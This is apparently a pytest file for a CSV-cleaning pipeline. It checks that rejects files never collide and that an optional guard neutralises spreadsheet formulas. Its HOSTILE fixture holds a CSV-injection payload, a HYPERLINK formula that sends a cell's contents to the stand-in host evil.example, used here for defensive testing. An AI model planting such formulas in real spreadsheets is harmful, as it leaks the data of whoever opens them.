"""Rejects files: one per drop whatever the drops are called, and an opt-in formula guard.

* Drops whose keys differ only in what sanitising or the added ``.csv`` erases (``leads...csv``
  has the key ``leads_csv``, beside ``leads_csv.csv``), or only in case (one file on a case-blind
  disk), each get their own rejects file: none overwrites another's.
* By default a rejects row is the drop's record byte for byte (it is meant to be fixed and
  dropped again). With ``formula_guard`` every cell a spreadsheet would evaluate (``= + - @``,
  tab, CR first) gets a leading ``'``; a record that does not parse becomes one guarded cell.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from cleanlist_pipeline.dagster_layer.component import CleanlistComponent
from cleanlist_pipeline.dagster_layer.csv_import.plan_step import rejects_path
from cleanlist_pipeline.dagster_layer.drops import scan_drops
from cleanlist_pipeline.dropstore import local_drop, publish_rejects, rejects_name
from cleanlist_pipeline.ingest import plan_file, write_rejects
from cleanlist_pipeline.settings import settings_from_env

HEADER = "first_name,last_name,email,company_name\n"


def _body(who: str) -> str:
    """A drop with one removed duplicate whose row names ``who``."""
    return (
        HEADER
        + f"{who},One,{who.lower()}@example.com,Acme\n"
        + f"{who},Two,{who.upper()}@EXAMPLE.COM,Acme\n"
    )


def _rows(path: str) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


# --- case 5: collision-free rejects paths ---------------------------------------------------


def test_drops_whose_keys_sanitise_alike_keep_separate_rejects_files(tmp_path: Path) -> None:
    drops = tmp_path / "drops"
    (drops / "sub").mkdir(parents=True)
    names = {
        "leads...csv": "Dots",  # key "leads_csv": ".csv" is added for the rejects file
        "leads_csv.csv": "Under",
        "Mixed.csv": "Upper",
        "mixed.csv": "Lower",  # one file with Mixed.csv on a case-blind disk
        "sub/a.csv": "Nested",
    }
    for name, who in names.items():
        (drops / name).write_text(_body(who), encoding="utf-8")
    scan = scan_drops(drops)
    assert {d.relative_path: d.key for d in scan}["leads...csv"] == "leads_csv"
    data = str(tmp_path / "data")
    written: dict[str, str] = {}
    for drop in scan:
        with local_drop(drop.path, identity=drop.identity) as local:
            plan = local.plan()
            written[drop.relative_path] = publish_rejects(plan, data, drop.key, local.path)
        assert written[drop.relative_path] == rejects_path(data, drop.key)  # what is reported
    assert len({p.casefold() for p in written.values()}) == len(names)
    for name, who in names.items():
        rows = _rows(written[name])
        assert [r[4] for r in rows[1:]] == [who], name  # its own rows, not another drop's
    # Readable names: the drop's name, a short hash of the exact key; folders are kept.
    assert Path(written["leads...csv"]).name == rejects_name("leads_csv")
    assert Path(written["leads...csv"]).name.startswith("leads_csv~")
    assert Path(written["sub/a.csv"]).parent.name == "sub"
    assert Path(written["sub/a.csv"]).name.startswith("a~")


def test_rejects_names_are_stable_readable_and_short() -> None:
    assert rejects_name("2025-04-crm-export.csv") == "2025-04-crm-export~652652f0.csv"
    assert rejects_name("2025-04-crm-export.csv") != rejects_name("2025-04-crm-export.CSV")
    assert rejects_name("leads_csv") != rejects_name("leads_csv.csv")
    long_key = "x" * 251 + ".csv"  # a drop's own name may use all 255 bytes
    assert len(rejects_name(long_key).encode()) <= 255
    assert rejects_name(long_key) != rejects_name("x" * 250 + ".csv")


# --- case 9: the formula guard --------------------------------------------------------------

HOSTILE = (
    "first_name,last_name,email,company_name,=cmd\n"
    "Ann,Lee,ann@example.com,Acme,ok\n"
    'Ann,"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",ANN@example.com,+1 555 0100,'
    "@SUM(A1)\n"
    "Bob,-2+3,bob@example.com,\tAcme,ok,one too many\n"
)


def test_rejects_stay_byte_identical_by_default(tmp_path: Path) -> None:
    drop = tmp_path / "hostile.csv"
    drop.write_bytes(HOSTILE.encode())
    out = tmp_path / "rejects.csv"
    assert write_rejects(plan_file(drop), out, drop) == 2
    lines = out.read_bytes().splitlines(keepends=True)
    source = HOSTILE.encode().splitlines(keepends=True)
    assert lines[1].endswith(b"," + source[2])  # the records themselves, unchanged
    assert lines[2].endswith(b"," + source[3])
    assert lines[0].endswith(b"," + source[0].rstrip(b"\n") + b",extra_field_1\n")


def test_formula_guard_prefixes_every_formula_like_cell(tmp_path: Path) -> None:
    drop = tmp_path / "hostile.csv"
    drop.write_bytes(HOSTILE.encode())
    out = tmp_path / "rejects.csv"
    assert write_rejects(plan_file(drop), out, drop, formula_guard=True) == 2
    header, dup, ragged = _rows(str(out))
    guarded_header = ["first_name", "last_name", "email", "company_name", "'=cmd"]
    assert header[4:] == [*guarded_header, "extra_field_1"]
    assert dup[:4] == ["duplicate_email", dup[1], "3", "3"]
    assert dup[4:] == [
        "Ann",
        '\'=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "ANN@example.com",
        "'+1 555 0100",
        "'@SUM(A1)",
    ]
    assert ragged[4:] == ["Bob", "'-2+3", "bob@example.com", "'\tAcme", "ok", "one too many"]
    # No cell of the file starts a formula any more.
    cells = [c for row in (header, dup, ragged) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_formula_guard_puts_an_unparseable_record_in_one_guarded_cell(tmp_path: Path) -> None:
    drop = tmp_path / "bare-cr.csv"
    # A bare CR inside an unquoted field: a malformed_row, which csv cannot parse.
    drop.write_bytes(b"email,name\na@example.com,A\n=1+1,x\ry@example.com,B\n")
    plan = plan_file(drop)
    assert [r.reason for r in plan.rejects] == ["malformed_row"]
    out = tmp_path / "rejects.csv"
    write_rejects(plan, out, drop, formula_guard=True)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert rows[1][4:] == ["'=1+1,x\ry@example.com,B"]


def test_the_setting_reaches_settings_and_the_component(tmp_path: Path) -> None:
    assert settings_from_env({}).rejects_formula_guard is False
    on = settings_from_env({"CLEANLIST_REJECTS_FORMULA_GUARD": "true"})
    assert on.rejects_formula_guard is True
    component = CleanlistComponent(rejects_formula_guard=True)
    assert component.to_settings("inbound", tmp_path).rejects_formula_guard is True
    assert CleanlistComponent().to_settings("inbound", tmp_path).rejects_formula_guard is False
